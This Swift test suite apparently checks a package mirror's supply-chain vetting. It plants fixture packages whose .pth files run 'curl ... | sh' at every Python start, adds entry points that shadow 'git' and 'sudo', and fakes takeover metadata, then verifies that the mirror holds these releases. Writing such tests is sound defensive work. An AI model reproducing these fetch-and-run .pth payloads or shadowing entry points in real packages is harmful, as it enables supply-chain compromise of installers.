import AirlockCore
import AirlockTestSupport
import Foundation
import Testing

/// Content signals inside a real sync: a mature project's new release that adds something its code
/// should not do is held, the previous release stays served, reviewers see the evidence, and an
/// approval serves it.
@Suite(.timeLimit(.minutes(10))) struct ContentVettingTests {
    @Test func aTakeoverReleaseIsHeldTheOldOneStaysServedAndReviewersSeeWhy() throws {
        let mirror = try MirrorHarness([
            PackageSpec("maturelib", "1.0"),
            PackageSpec("otherlib", "1.0", extraFiles: ["{distinfo}/entry_points.txt": "[console_scripts]\nsudo = otherlib:main\n"]),
        ])
        // Mature facts: released long ago, so the score approves; only content can hold them.
        try mirror.backdate(days: 400)
        let first = try mirror.sync(["maturelib", "otherlib"], extra: ["--policy", PolicySyncTests.defaultPolicy, "--versions", "2"])
        #expect(first.succeeded, "\(first.output)")
        // 2.0 adds a .pth that runs a download at every interpreter start, and a command named `git`.
        try mirror.add([
            PackageSpec(
                "maturelib", "2.0",
                extraFiles: [
                    "maturelib-startup.pth": "import os; os.system('curl -s http://127.0.0.1:9/abc | sh')\n",
                    "{distinfo}/entry_points.txt": "[console_scripts]\ngit = maturelib:main\n",
                ])
        ])
        try mirror.backdate(days: 400)
        let r = try mirror.sync([], extra: ["--policy", PolicySyncTests.defaultPolicy, "--versions", "2"])
        #expect(r.succeeded, "\(r.output)")
        let show = try AirlockCommand.run(["review", "show", "--data", mirror.data, "maturelib"])
        #expect(show.stdout.contains("maturelib 2.0: DENY"), "\(show.stdout)")
        #expect(
            show.stdout.contains("rule:content:pth_exec: maturelib-2.0-py3-none-any.whl: maturelib-startup.pth:1: runs at every Python start"),
            "\(show.stdout)")
        #expect(show.stdout.contains("— new since 1.0, which had no such code"), "the change is named: \(show.stdout)")
        #expect(show.stdout.contains("rule:content:shadowing_entry_point") && show.stdout.contains("entry_points.txt:2"), "\(show.stdout)")
        #expect(show.stdout.contains("maturelib 1.0: APPROVE"), "\(show.stdout)")

        let server = try mirror.serve()
        let page = try httpGet(server.base + "/simple/maturelib/").body
        #expect(page.contains("maturelib-1.0-py3-none-any.whl") && !page.contains("maturelib-2.0"), "1.0 stays served, 2.0 is held: \(page)")
        let (pip, python) = try PythonClients.pipInstall(["maturelib"], index: server.base + "/simple/", in: mirror.dir.path)
        #expect(pip.succeeded, "\(pip.output)")
        #expect(try PythonClients.python(python, "import maturelib; print(maturelib.__version__)").stdout.trimmingWhitespace() == "1.0")

        // otherlib only goes to review: it is queued, its page names the signal, member and line; approving serves it.
        let queue = try AirlockCommand.run(["review", "list", "--data", mirror.data, "--json"])
        #expect(queue.stdout.contains(#""project" : "otherlib""#), "\(queue.stdout)")
        let other = try AirlockCommand.run(["review", "show", "--data", mirror.data, "otherlib"])
        #expect(
            other.stdout.contains("otherlib 1.0: REVIEW") && other.stdout.contains("otherlib-1.0.dist-info/entry_points.txt:2"), "\(other.stdout)")
        // The reviewer's page in the web UI shows the same evidence.
        let token = try AirlockCommand.run(["token", "create", "--data", mirror.data, "--name", "reviewer", "--role", "reviewer"]).stdout
            .trimmingWhitespace()
        let jar = mirror.dir.path + "/jar"
        let form = try Subprocess.run("/usr/bin/curl", ["-s", "-c", jar, server.base + "/ui/login"]).stdout
        _ = try Subprocess.run(
            "/usr/bin/curl",
            [
                "-s", "-o", "/dev/null", "-b", jar, "-c", jar, "-d", "csrf=\(ReviewHarness.csrf(in: form) ?? "")", "-d", "token=\(token)",
                server.base + "/ui/login",
            ])
        let ui = try Subprocess.run("/usr/bin/curl", ["-s", "-b", jar, server.base + "/ui/projects/pypi/otherlib"]).stdout
        #expect(ui.contains("rule:content:shadowing_entry_point") && ui.contains("otherlib-1.0.dist-info/entry_points.txt:2"), "\(ui)")
        let approved = try AirlockCommand.run(["review", "approve", "--data", mirror.data, "otherlib", "--reason", "our own tool, checked"])
        #expect(approved.succeeded, "\(approved.output)")
        try eventually("otherlib is served once approved") { try httpGet(server.base + "/simple/otherlib/").body.contains("otherlib-1.0") }
    }

    /// Change a takeover shows in metadata: 2.0 of a mature project depends on a project first released
    /// today, which 1.0 did not (held even once that dependency is approved), and moves its source URL to
    /// another organisation, with its author's e-mail at a new domain; and a wheel whose
    /// Requires-Dist differs from its sdist's static one (PEP 643) is held, naming both.
    @Test func aNewFreshDependencyAndADoctoredWheelAreHeld() throws {
        let mirror = try MirrorHarness([
            PackageSpec("maturelib", "1.0", sourceURL: "http://127.0.0.1:9/maturelib/maturelib"),
            // The sdist's PKG-INFO (metadata 2.2, Requires-Dist static) declares nothing; the cp312 wheel adds a dependency.
            PackageSpec(
                "splitlib", "1.0", requires: ["maturelib"], kinds: ["wheel", "sdist"], tag: "cp312-cp312-manylinux_2_28_x86_64",
                extraFiles: [
                    "PKG-INFO": "Metadata-Version: 2.2\nName: splitlib\nVersion: 1.0\nSummary: splitlib\nAuthor: A\nAuthor-email: a@example.org\n"
                ]),
        ])
        try mirror.backdate(days: 400)
        let policy = ["--policy", PolicySyncTests.defaultPolicy, "--versions", "2"]
        // The cp312 wheel serves 3.12; the other target installs the sdist, so both are mirrored and compared.
        #expect(try mirror.sync(["maturelib", "splitlib"], extra: policy + ["--python", "3.12"]).succeeded)
        let split = try AirlockCommand.run(["review", "show", "--data", mirror.data, "splitlib"])
        #expect(split.stdout.contains("splitlib 1.0: REVIEW") && split.stdout.contains("rule:content:dependency_mismatch"), "\(split.stdout)")
        #expect(
            split.stdout.contains(
                "splitlib-1.0-cp312-cp312-manylinux_2_28_x86_64.whl: METADATA: its Requires-Dist differs from the static one (metadata 2.2) of splitlib-1.0.tar.gz: `+maturelib`"
            ), "\(split.stdout)")

        // 2.0 also points its source somewhere else.
        var takeover = PackageSpec("maturelib", "2.0", requires: ["freshdep"], sourceURL: "http://127.0.0.1:9/someone-else/maturelib.git")
        takeover.author_email = "author@mailbox.example"
        try mirror.add([takeover, PackageSpec("freshdep", "0.1")])
        try mirror.backdate(days: 400, except: "freshdep")
        #expect(try mirror.sync([], extra: policy).succeeded)
        #expect(try AirlockCommand.run(["review", "approve", "--data", mirror.data, "freshdep", "--reason", "checked"]).succeeded)
        let show = try AirlockCommand.run(["review", "show", "--data", mirror.data, "maturelib"])
        #expect(show.stdout.contains("maturelib 2.0: REVIEW") && show.stdout.contains("maturelib 1.0: APPROVE"), "\(show.stdout)")
        #expect(
            show.stdout.contains(
                "rule:content:new_fresh_dependency: maturelib-2.0-py3-none-any.whl: metadata: depends on 'freshdep', which 1.0 did not, a project first released 0 days ago"
            ), "\(show.stdout)")
        #expect(
            show.stdout.contains(
                "rule:content:maintainer_domain_new: maturelib-2.0-py3-none-any.whl: metadata: names an e-mail at mailbox.example, a domain 1.0's people (author@example.org) did not use"
            ), "\(show.stdout)")
        #expect(
            show.stdout.contains(
                "rule:content:homepage_changed: maturelib-2.0-py3-none-any.whl: metadata: the project's source URL was http://127.0.0.1:9/maturelib/maturelib in 1.0: `http://127.0.0.1:9/someone-else/maturelib.git`"
            ), "\(show.stdout)")
        let server = try mirror.serve()
        let page = try httpGet(server.base + "/simple/maturelib/").body
        #expect(page.contains("maturelib-1.0") && !page.contains("maturelib-2.0"), "1.0 stays served: \(page)")
    }

    /// A dependency denied for what its files contain (known only once downloaded) holds back what
    /// needs it, and resolution falls back to the newest version that does not: with `--versions 1`
    /// the client still gets app 1.0 with lib 1.0.
    @Test func aDependencyDeniedForItsContentMakesTheResolverFallBack() throws {
        let mirror = try MirrorHarness([
            PackageSpec("app", "1.0", requires: ["lib"]), PackageSpec("app", "2.0", requires: ["lib>=2"]), PackageSpec("lib", "1.0"),
            PackageSpec("lib", "2.0", extraFiles: ["lib-init.pth": "import os; os.system('curl -s http://127.0.0.1:9/x | sh')\n"]),
        ])
        try mirror.backdate(days: 400)
        let r = try mirror.sync(["app"], extra: ["--policy", PolicySyncTests.defaultPolicy, "--versions", "1"])
        #expect(r.succeeded, "\(r.output)")
        let server = try mirror.serve()
        let app = try httpGet(server.base + "/simple/app/").body
        let lib = try httpGet(server.base + "/simple/lib/").body
        #expect(app.contains("app-1.0-py3-none-any.whl") && !app.contains("app-2.0"), "\(app)")
        #expect(lib.contains("lib-1.0-py3-none-any.whl") && !lib.contains("lib-2.0"), "\(lib)")
    }
}
